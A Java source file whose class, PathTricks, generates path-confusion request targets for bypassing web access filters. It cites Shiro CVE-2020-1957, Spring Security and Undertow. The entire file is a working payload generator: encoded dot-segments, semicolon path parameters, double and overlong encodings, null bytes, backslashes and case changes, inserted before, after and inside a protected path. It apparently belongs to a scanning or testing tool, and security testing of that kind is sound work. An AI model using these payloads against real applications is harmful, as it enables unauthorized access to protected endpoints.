package io.github.postern.servers;

import java.util.ArrayList;
import java.util.List;

/**
 * Ways to write a path so that a filter and the server may understand it differently, as they were found in Shiro
 * (CVE-2020-1957 and its successors), Spring Security, Undertow (CVE-2020-1757) and others.
 */
public final class PathTricks {

    /** To be put between the context path and the path. */
    private static final List<String> BEFORE = List.of("/", "//", "/.", "/./.", "/x/..", "/who/..", "/x/..;", "/x/..;a=b",
            "/x;/..", "/;", "/;a=1", "/;a=1;b=2", "/%2e", "/%2E", "/x/%2e%2e", "/x/.%2e", "/x/%2e%2e;", "/%252e",
            "/x/%252e%252e", "/%c0%ae", "/%e0%80%ae", "/\\", "/%5c", "/%2f", "%2f", "/%00", "/%20", "/%09", "/open/..",
            "/open/..;", "/open/%2e%2e", "/open/..%2f", "/open/..%5c", "/open/..\\", "/open;/..;", "/go/forward/../..",
            "/\u00ff/..", "/%ff/..", "/..", "/../x/..");
    /** To be put behind the path. */
    private static final List<String> AFTER = List.of("/", "//", "/.", "/..", "/x/..", "/..;/", "/%2e", "/x/%2e%2e", ";",
            ";a=1", ";jsessionid=1", ";.txt", "/;", "/;x=1", ";/x/..", "%00", "%00.txt", "%20", "%09", "%0a", "%0d%0a", "%ff",
            "%c0%af", "%2f", "%252f", "%5c", "\\", "\\..\\run", ".", "%2e", "?", "?x", "#", "#x", "%3f", "%3b", "%23", "/x;/..");

    private PathTricks() {
    }

    /**
     * Returns request targets that mean, or may be taken to mean, one path of an application.
     *
     * @param context with a slash at its start
     * @param path in the application, of two segments, with a slash at its start
     */
    public static List<String> of(String context, String path) {
        List<String> targets = new ArrayList<>();
        BEFORE.forEach(before -> targets.add(context + before + path));
        AFTER.forEach(after -> targets.add(context + path + after));
        targets.addAll(inside(context, path));
        targets.add("//" + context.substring(1) + path);
        targets.add("/." + context + path);
        targets.add("/x/.." + context + path);
        targets.add("/x/..;" + context + path);
        targets.add(context + ";a=1" + path);
        targets.add(context + "/../" + context.substring(1) + path);
        targets.add("http://127.0.0.1" + context + path);
        targets.add("http://127.0.0.1" + context + "/x/..;" + path);
        targets.add("http://127.0.0.1/" + context + path);
        return targets;
    }

    private static List<String> inside(String context, String path) {
        int slash = path.indexOf('/', 1);
        String first = path.substring(0, slash);
        String second = path.substring(slash + 1);
        List<String> targets = new ArrayList<>();
        for (String between : List.of("//", "///", "/./", "/x/../", "/x/..;/", ";/", ";x=1/", ";x=1;y=2/", "/;/", "/;x=1/",
                "/%2e/", "/x/%2e%2e/", "%2f", "%2F", "%252f", "%5c", "\\", "/\\", "%00/", "/%00", "%20/", "/%20", "/%09",
                "%c0%af", "%u002f", "/..;/" + first.substring(1) + "/", "/../" + first.substring(1) + "/",
                "%2f..%2f" + first.substring(1) + "/", ";/../" + first.substring(1) + "/", "%3b/", "%3bx=1/")) {
            targets.add(context + first + between + second);
        }
        targets.add(context + "/%" + Integer.toHexString(path.charAt(1)) + path.substring(2));
        targets.add(context + "/%25" + Integer.toHexString(path.charAt(1)) + path.substring(2));
        targets.add(context + "/%u00" + Integer.toHexString(path.charAt(1)) + path.substring(2));
        targets.add(context + first.toUpperCase(java.util.Locale.ROOT) + "/" + second);
        targets.add(context + first + "/" + second.toUpperCase(java.util.Locale.ROOT));
        targets.add(context + "/" + Character.toUpperCase(path.charAt(1)) + path.substring(2));
        return targets;
    }
}
